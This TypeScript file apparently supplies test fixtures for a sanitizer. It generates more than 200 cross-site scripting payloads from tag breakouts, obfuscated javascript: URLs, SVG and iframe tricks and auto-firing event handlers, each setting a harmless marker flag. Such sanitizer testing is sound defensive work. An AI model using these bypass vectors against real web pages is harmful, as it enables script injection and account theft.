const calls = ['window.__run=1', 'document.documentElement.dataset.run=1']
const events = [
  'onerror',
  'onload',
  'onclick',
  'onmouseover',
  'onfocus',
  'ontoggle',
  'onanimationstart',
  'onpointerenter',
]

const tags = (call: string) => [
  `<script>${call}</script>`,
  `<ScRiPt>${call}</sCrIpT>`,
  `<script src=data:text/javascript,${call}></script>`,
  `"><script>${call}</script>`,
  `'><script>${call}</script>`,
  `</title><script>${call}</script>`,
  `</textarea><script>${call}</script>`,
  `</script><script>${call}</script>`,
  `--><script>${call}</script>`,
  `<<script>${call}//<</script>`,
  `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  `<iframe src="javascript:${call}"></iframe>`,
  `<object data="javascript:${call}"></object>`,
  `<embed src="javascript:${call}">`,
  `<a href="javascript:${call}">x</a>`,
  `<a href="java\tscript:${call}">x</a>`,
  `<a href="&#106;avascript:${call}">x</a>`,
  `<form action="javascript:${call}"><button>x</button></form>`,
  `<svg><script>${call}</script></svg>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  `<math><a xlink:href="javascript:${call}">x</a></math>`,
  `<style>@import 'javascript:${call}'</style>`,
  `<link rel=stylesheet href="javascript:${call}">`,
  `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  `<base href="javascript:${call}//">`,
  `{{constructor.constructor('${call}')()}}`,
  `\${${call}}`,
  `<template><script>${call}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  `\u2028${call}\u2029//`,
]

const handlers = (call: string) =>
  events.flatMap((event) =>
    [
      'img src=x',
      'svg',
      'details open',
      'input autofocus',
      'video src=x',
      'body',
      'div tabindex=1',
      'select autofocus',
      'marquee',
    ].map((tag) => `<${tag} ${event}=${call}>`),
  )

/** Handlers that run without a touch. */
const runsByItself = /^<(img|video)\b.*onerror|^<(svg|body)\b.*onload|^<details\b.*ontoggle|autofocus onfocus/

/** More than 200 ways to inject a script into a page. */
export const scripts: readonly string[] = calls.flatMap((call) => [...tags(call), ...handlers(call)])

/** Every kind of tag, and every handler that runs by itself: fewer than fifty, so that one page of a list has all. */
export const fewScripts: readonly string[] = calls.flatMap((call, n) => [
  ...(n === 0 ? tags(call) : []),
  ...handlers(call).filter((one) => runsByItself.test(one)),
])
